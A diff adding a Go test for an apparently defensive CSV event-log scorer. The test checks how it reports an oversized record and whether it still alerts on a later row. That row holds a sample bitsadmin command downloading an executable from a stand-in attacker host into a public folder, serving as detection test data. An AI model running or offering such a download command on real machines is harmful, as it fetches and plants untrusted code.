@@ -130,6 +130,21 @@ func TestScoreOversizedCSVRecord(t *testing.T) {
 	}
 }
 
+// An oversized CSV record is named by the line where it starts, past a
+// record of two lines and a blank line before it.
+func TestScoreOversizedCSVRecordNamesItsFirstLine(t *testing.T) {
+	defer func(saved int) { maxEvent = saved }(maxEvent)
+	maxEvent = 1 << 20
+	var input bytes.Buffer
+	input.WriteString("_time,host,CommandLine,Image\n1,h,\"two\nlines\",x.exe\n\n2,h,\"") // the big record starts on line 5
+	input.Write(bytes.Repeat([]byte("A"), maxEvent+64<<10))
+	input.WriteString("\",x.exe\n3,h,bitsadmin /transfer j https://evil.example/a.exe C:\\Users\\Public\\a.exe,C:\\Windows\\System32\\bitsadmin.exe\n")
+	stdout, stderr, status := runScore(&input, "--format", "csv")
+	if status != ExitAlert || !strings.Contains(stderr, "-:5: event larger than 64 MiB") || !strings.Contains(stdout, "-,6,3,h,") {
+		t.Errorf("status %d, stderr %q, stdout %q", status, stderr, stdout)
+	}
+}
+
 // Files are closed as they are read: more files than descriptors allowed.
 func TestScoreClosesEachFile(t *testing.T) {
 	path := filepath.Join(t.TempDir(), "one.csv")
